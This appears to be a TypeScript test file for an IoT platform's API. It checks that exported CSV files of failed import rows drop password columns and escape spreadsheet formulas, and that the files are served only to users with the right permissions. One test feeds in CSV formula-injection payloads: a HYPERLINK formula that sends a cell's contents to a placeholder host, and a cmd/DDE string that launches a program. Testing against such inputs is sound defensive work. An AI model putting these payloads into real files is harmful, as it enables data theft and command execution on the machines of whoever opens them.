// GET /api/v1/operations/{uid}/file: the failed rows of a CSV operation hold no password column and no text a
// spreadsheet would run as a formula (core/operations/csv/write.ts), and an operation's file (failed rows, data
// export) is served only to who holds the right that creating its type needs (403 missing.rights otherwise).
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startStack, type Stack } from '../../../helpers/stack.js'
import { createUser, uniq, type TestUser } from '../../../helpers/factories.js'
import { createSystems, postExport, started, waitFinished } from '../../../helpers/operations.js'
import { failedRows, IMPORT, runCsv } from './csv-helpers.js'

let stack: Stack
let viewer: TestUser
let creator: TestUser
let exporter: TestUser

beforeAll(async () => {
  stack = await startStack()
  viewer = await createUser(stack, { rights: ['entities.systems.view'] })
  creator = await createUser(stack, { rights: ['entities.systems.view', 'entities.systems.create'] })
  exporter = await createUser(stack, { rights: ['entities.systems.view', 'entities.systems.export'] })
})
afterAll(async () => { await stack?.close() })

const fileOf = async (uid: string, token: string) => await stack.call(token, { method: 'GET', url: `/api/v1/operations/${uid}/file` })

describe('the failed rows file', () => {
  it('leaves out the password columns and writes would-be formulas after a single quote', async () => {
    const header = 'NAME,GATEWAY[IMEI],MQTT[password],M3DA[REGISTRATION PASSWORD],REST[Password],MSCI[host],MSCI[user],MSCI[password],METADATA[note]'
    const rows = [
      '"=HYPERLINK(""http://evil.test/?""&A1;""x"")",123,mqtt-secret-1,reg-secret-1,rest-secret-1,gw.example,admin,msci-secret-1,-5',
      '@SUM(1),456,mqtt-secret-2,reg-secret-2,rest-secret-2,gw.example,admin,msci-secret-2,+cmd|\' /C calc\'!A0'
    ]
    const { op, tasks } = await runCsv(stack, IMPORT, `${header}\n${rows.join('\n')}\n`)
    expect(tasks.map((t) => t.error?.code)).toEqual(['gateway.invalid.imei', 'gateway.invalid.imei'])
    const file = await failedRows(stack, op.uid)
    expect(file.text).not.toMatch(/secret/)
    const lines = file.text.split('\r\n')
    expect(lines[0]).toBe('NAME,GATEWAY[IMEI],MSCI[host],MSCI[user],METADATA[note],ERROR')
    expect(lines[1]).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.test\/\?""&A1;""x""\)",123,gw\.example,admin,'-5,gateway\.invalid\.imei/)
    expect(lines[2]).toMatch(/^'@SUM\(1\),456,gw\.example,admin,'\+cmd\|' \/C calc'!A0,gateway\.invalid\.imei/)
  })
})

describe('the file of an operation needs the right that creating its type needs', () => {
  it('failed rows of an import (entities.systems.create): a viewer is refused, a creator is answered', async () => {
    const { op } = await runCsv(stack, IMPORT, `NAME,GATEWAY[IMEI]\n${uniq('fr')},123\n`)
    const refused = await fileOf(op.uid, viewer.token)
    expect(refused.statusCode).toBe(403)
    expect(refused.json()).toEqual({ error: 'missing.rights', errorParameters: ['entities.systems.create'] })
    expect((await fileOf(op.uid, creator.token)).statusCode).toBe(200)
  })

  it('a data history export (entities.systems.export): a viewer and a creator are refused, an exporter is answered', async () => {
    const [system = ''] = await createSystems(stack, 1, uniq('exp'))
    const uid = await started(postExport(stack, system, { data: ['temperature'] }))
    await waitFinished(stack, uid)
    for (const user of [viewer, creator]) {
      const refused = await fileOf(uid, user.token)
      expect(refused.statusCode).toBe(403)
      expect(refused.json()).toEqual({ error: 'missing.rights', errorParameters: ['entities.systems.export'] })
    }
    expect((await fileOf(uid, exporter.token)).statusCode).toBe(200)
  })
})
